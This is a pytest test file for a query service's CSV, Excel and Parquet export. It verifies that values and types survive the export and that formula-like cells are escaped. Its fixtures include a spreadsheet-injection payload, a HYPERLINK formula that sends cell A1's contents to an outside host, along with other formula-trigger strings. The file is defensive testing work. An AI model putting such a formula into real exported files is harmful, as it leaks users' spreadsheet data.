"""Results taken away as tables: CSV that no spreadsheet runs, Excel, Parquet."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import TYPE_CHECKING
from xml.etree import ElementTree

import duckdb
import pytest

from holdfast_service.tables import guarded

if TYPE_CHECKING:
    from conftest import Live

FORMULA = """=HYPERLINK("http://e.org?x="&A1,"Harbour")"""
ROWS = f"""PREFIX xsd: <http://www.w3.org/2001/XMLSchema#>
SELECT ?name ?ventures ?share ?open ?since ?at {{
  VALUES (?name ?ventures ?share ?open ?since ?at) {{
    ({FORMULA!r} 3 0.5 true '2001-05-01'^^xsd:date <https://e.org/1>)
    ("Hafen, \\"Nord\\"\\nund Süd"@de -12 1.5 false UNDEF UNDEF)
  }}
}}"""


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+44 20 7946", "'+44 20 7946"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\n=1", "'\n=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-12", "-12"),
        ("+1.5e3", "+1.5e3"),
        ("Harbour = Health", "Harbour = Health"),
        ("", ""),
    ],
)
def test_what_would_be_a_formula_is_shown_as_text(text: str, shown: str) -> None:
    assert shown == guarded(text)


def test_csv_holds_every_value_and_no_formula(live: Live) -> None:
    reply = live.query(ROWS, "text/csv")

    assert "text/csv; charset=utf-8" == reply.headers["content-type"]
    assert [
        ["name", "ventures", "share", "open", "since", "at"],
        ["'" + FORMULA, "3", "0.5", "true", "2001-05-01", "https://e.org/1"],
        ['Hafen, "Nord"\nund Süd', "-12", "1.5", "false", "", ""],
    ] == list(csv.reader(io.StringIO(reply.text, newline="")))


def test_a_workbook_holds_numbers_as_numbers_and_formulas_as_text(live: Live) -> None:
    reply = live.query(ROWS, format="xlsx")
    with zipfile.ZipFile(io.BytesIO(reply.body)) as book:
        assert book.testzip() is None
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    cells = [
        [(cell.get("t", "n"), "".join(cell.itertext())) for cell in row]
        for row in sheet.iter(f"{space}row")
    ]

    assert "attachment" in reply.headers["content-disposition"]
    assert not list(sheet.iter(f"{space}f"))
    assert [("inlineStr", FORMULA), ("n", "3"), ("n", "0.5"), ("b", "1")] == cells[1][:4]
    assert ("n", "-12") == cells[2][1]


def test_a_parquet_file_has_columns_of_their_kinds(live: Live, tmp_path: object) -> None:
    file = tmp_path / "result.parquet"  # type: ignore[operator]
    file.write_bytes(live.query(ROWS, "application/vnd.apache.parquet").body)

    found = duckdb.sql(
        f'SELECT name, ventures, share, "open", since::VARCHAR, "at" FROM \'{file}\''
    )
    kinds = [str(kind) for kind in duckdb.sql(f"SELECT * FROM '{file}'").types]

    assert ["VARCHAR", "BIGINT", "DOUBLE", "BOOLEAN", "DATE", "VARCHAR"] == kinds
    assert (FORMULA, 3, 0.5, True, "2001-05-01", "https://e.org/1") == found.fetchall()[0]


def test_dates_that_are_none_and_names_that_differ_in_capitals_make_a_parquet_file(
    live: Live, tmp_path: object
) -> None:
    file = tmp_path / "odd.parquet"  # type: ignore[operator]
    query = """PREFIX xsd: <http://www.w3.org/2001/XMLSchema#>
      SELECT ?a ?A { VALUES (?a ?A) { (1 "2001-02-30"^^xsd:date) } }"""
    file.write_bytes(live.query(query, format="parquet").body)

    assert [(1, "2001-02-30")] == duckdb.sql(f"SELECT a, A_1 FROM '{file}'").fetchall()


def test_a_table_without_rows_is_a_table(live: Live, tmp_path: object) -> None:
    empty = "SELECT ?x { VALUES ?x {} }"
    file = tmp_path / "empty.parquet"  # type: ignore[operator]
    file.write_bytes(live.query(empty, format="parquet").body)

    assert [] == duckdb.sql(f"SELECT x FROM '{file}'").fetchall()
    assert "x\r\n" == live.query(empty, "text/csv").text
    assert zipfile.is_zipfile(io.BytesIO(live.query(empty, format="xlsx").body))
